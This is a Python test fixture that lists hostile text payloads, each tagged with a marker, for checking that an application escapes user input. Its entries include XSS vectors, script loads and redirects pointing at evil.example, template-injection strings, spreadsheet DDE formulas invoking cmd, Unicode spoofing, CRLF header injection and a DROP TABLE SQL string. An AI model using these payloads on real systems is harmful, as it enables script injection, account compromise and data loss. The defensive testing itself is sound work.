"""Hostile text for test_hostile_content.py: what a client, a teammate or an
API caller could type into any text field, as (name, text) pairs.

Each text holds its marker, `{m}`, which the fixture replaces with a short
code of letters and digits (xq00, xq01, …) that survives escaping: finding the
marker in a page, an e-mail, a PDF or an export shows the payload got there."""

LONG = "A" * 5000

PAYLOADS: list[tuple[str, str]] = [
    # -- HTML elements that run script
    ("script", "<script>alert('{m}')</script>"),
    ("script-src", "<script src=//evil.example/{m}.js></script>"),
    ("script-upper", "<SCRIPT>alert('{m}')</SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert('{m}')</scr</script>ipt>"),
    ("img-onerror", "<img src=x onerror=alert('{m}')>"),
    ("img-onerror-slash", "<img/src=\"x\"/onerror=alert('{m}')>"),
    ("svg-onload", "<svg onload=alert('{m}')>"),
    ("svg-script", "<svg><script>alert('{m}')</script></svg>"),
    ("body-onload", "<body onload=alert('{m}')>"),
    ("details-ontoggle", "<details open ontoggle=alert('{m}')>"),
    ("iframe", "<iframe src=javascript:alert('{m}')></iframe>"),
    ("iframe-srcdoc", "<iframe srcdoc='<script>alert(1)</script>'>{m}</iframe>"),
    ("object", "<object data=javascript:alert('{m}')></object>"),
    ("embed", "<embed src=javascript:alert('{m}')>"),
    ("form-action", "<form action=javascript:alert('{m}')><button>go</button></form>"),
    ("button-formaction", "<button formaction=javascript:alert('{m}')>{m}</button>"),
    ("meta-refresh", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>{m}"),
    ("base-href", "<base href=//evil.example/>{m}"),
    ("link-import", "<link rel=import href=//evil.example/{m}>"),
    ("style-url", "<style>body{background:url(javascript:alert('{m}'))}</style>"),
    ("style-attr", "<div style=\"background:url(javascript:alert('{m}'))\">x</div>"),
    ("math-href", "<math><a xlink:href=javascript:alert('{m}')>x</a></math>"),
    ("a-javascript", "<a href=javascript:alert('{m}')>x</a>"),
    ("htmx-attr", "<div hx-get=/evil hx-trigger=load hx-on:click=alert('{m}')>x</div>"),
    # -- breaking out of an attribute or an element
    ("dq-breakout", "\"><script>alert('{m}')</script>"),
    ("sq-breakout", "'><img src=x onerror=alert('{m}')>"),
    ("dq-handler", '" onmouseover="alert(\'{m}\')" x="'),
    ("sq-handler", "' onmouseover='alert(`{m}`)' x='"),
    ("unquoted-handler", "x onfocus=alert('{m}') autofocus"),
    ("textarea-breakout", "</textarea><script>alert('{m}')</script>"),
    ("title-breakout", "</title><script>alert('{m}')</script>"),
    ("comment-breakout", "--><script>alert('{m}')</script><!--"),
    ("cdata", "<![CDATA[<script>alert('{m}')</script>]]>"),
    ("js-string-breakout", "';alert('{m}');//"),
    ("json-breakout", '"}]</script><script>alert("{m}")</script>'),
    # -- dangerous URLs, as bare text (fields that become links) and mixed case
    ("js-url", "javascript:alert('{m}')"),
    ("js-url-case", "JaVaScRiPt:alert('{m}')"),
    ("js-url-entities", "&#106;avascript&#58;alert('{m}')"),
    ("js-url-hex-entities", "&#x6A;&#x61;vascript:alert('{m}')"),
    ("js-url-whitespace", " \tjava\nscript:alert('{m}')"),
    ("js-url-encoded", "javascript%3Aalert('{m}')"),
    ("data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={m}"),
    ("vbscript", "vbscript:msgbox('{m}')"),
    # -- markdown that tries to make a link or an image run script
    ("md-link-js", "[{m}](javascript:alert(1))"),
    ("md-link-js-case", "[{m}](JAVASCRIPT:alert(1))"),
    ("md-image-js", "![{m}](javascript:alert(1))"),
    ("md-image-onerror", '![{m}](x" onerror="alert(1))'),
    ("md-link-angle", "[{m}](<javascript:alert(1)>)"),
    ("md-link-entity", "[{m}](&#106;avascript:alert(1))"),
    ("md-link-data", "[{m}](data:text/html;base64,PHNjcmlwdD4=)"),
    ("md-link-title", '[{m}](https://ok.example "x\\" onmouseover=\\"alert(1))'),
    ("md-reference", "[{m}][r]\n\n[r]: javascript:alert(1)"),
    ("md-autolink", "<javascript:alert('{m}')>"),
    ("md-html-inline", "**{m}** <b onclick=alert(1)>bold</b>"),
    ("md-html-block", "<div>\n<script>alert('{m}')</script>\n</div>"),
    ("md-nested", "[[{m}](javascript:alert(1))](https://ok.example)"),
    ("md-link-in-code", "`<script>`[{m}](javascript:alert(1))"),
    # -- template syntax that must stay text
    ("django-var", "{{ request.user.password }}{m}"),
    ("django-tag", "{% debug %}{m}{% load static %}"),
    ("angular", "{{constructor.constructor('alert(1)')()}}{m}"),
    ("printf", "%s%s%n%(name)s{m}"),
    # -- spreadsheet formulas (exports)
    ("csv-formula", '=HYPERLINK("https://evil.example","{m}")'),
    ("csv-dde", "@SUM(1+1)*cmd|' /C calc'!A0 {m}"),
    ("csv-plus", "+1+cmd|' /C calc'!A0 {m}"),
    # -- Unicode tricks
    ("bidi-override", "\u202e{m}gnp.exe"),
    ("bidi-isolates", "\u2066\u2067\u2068{m}\u2069 admin"),
    ("zero-width", "ja\u200bvas\u200ccript:al\u200dert('{m}')\ufeff"),
    ("homoglyph-domain", "https://раураl.example/{m}"),
    ("homoglyph-latin", "Аdmin Ρаssword {m}"),
    ("combining", "Z\u0351\u0352\u0353{m}\u0354\u0355"),
    ("fullwidth", "＜script＞alert('{m}')＜/script＞"),
    ("control-chars", "\x01\x02\x08\x0b\x0c\x1b[31m{m}\x7f"),
    ("crlf-injection", "{m}\r\nX-Injected: 1\r\nBEGIN:VEVENT"),
    ("emoji-rtl", "مرحبا {m} 🎉 שלום"),
    ("long", "{m}" + LONG),
    ("sql-ish", "'; DROP TABLE projects_project; -- {m}"),
]

MARKER = "xq{:02d}"


def payload_texts() -> list[tuple[str, str, str]]:
    """(name, marker, text) of every payload, its marker filled in."""
    return [
        (name, MARKER.format(index), text.replace("{m}", MARKER.format(index)))
        for index, (name, text) in enumerate(PAYLOADS)
    ]
